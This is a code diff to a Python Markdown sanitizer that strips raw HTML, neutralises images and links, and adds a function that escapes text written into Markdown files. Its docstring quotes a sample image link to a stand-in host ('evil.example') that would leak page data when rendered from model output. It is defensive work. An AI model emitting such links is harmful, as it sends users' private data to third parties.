@@ -1,12 +1,17 @@
-"""Markdown from untrusted hands (model output, documents) as HTML that is safe to show.
+"""Markdown from untrusted hands (model output, documents) as HTML that is safe to show, and
+untrusted text written into a Markdown file that other programs will render.
 
 markdown-it-py renders with raw HTML disabled; nh3 then keeps only an allowlist of tags and
 attributes, so even a bug in the renderer cannot put a script, a handler or a style on the page.
 Images never load: they become their alt text, because `![x](https://evil.example/?q=secret)`
 written by a model would otherwise send page data to another host the moment the page renders.
 Links keep http(s) and mailto only and get rel="noopener noreferrer nofollow".
+
+A Markdown file leaves Citadel, and the viewer that renders it is not ours: many pass raw HTML
+through and follow any link. So text written into one is made inert (`markdown_inert`) instead.
 """
 
+import re
 from html import escape
 
 import nh3
@@ -63,6 +68,14 @@ def _renderer() -> MarkdownIt:
 
 _MD = _renderer()
 
+# "<" opens every tag, comment and autolink; "&" only matters where it starts an entity, which a
+# viewer would decode. A "]" right before "(", "[" or ":" closes a link's or an image's text or
+# names a link definition. Each becomes an entity: viewers show entities as text and never read
+# them as Markdown, and a backslash before one cannot undo it, as it could undo a backslash escape.
+_TAG_OPEN = re.compile(r"<")
+_ENTITY = re.compile(r"&(?=#?[0-9A-Za-z]+;)")
+_LINK_CLOSE = re.compile(r"\](?=[(\[:])")
+
 
 def sanitize_html(html: str) -> str:
     return nh3.clean(
@@ -78,3 +91,10 @@ def sanitize_html(html: str) -> str:
 def render_markdown(text: str) -> str:
     """Safe HTML for Markdown `text` (None and non-strings render as their string form)."""
     return sanitize_html(_MD.render("" if text is None else str(text)))
+
+
+def markdown_inert(text: str) -> str:
+    """`text` to write into a Markdown file so that no viewer makes HTML, a link or an image of
+    it; emphasis and lists still render, and it still reads as written in plain text."""
+    text = _ENTITY.sub("&amp;", text)
+    return _LINK_CLOSE.sub("&#93;", _TAG_OPEN.sub("&lt;", text))
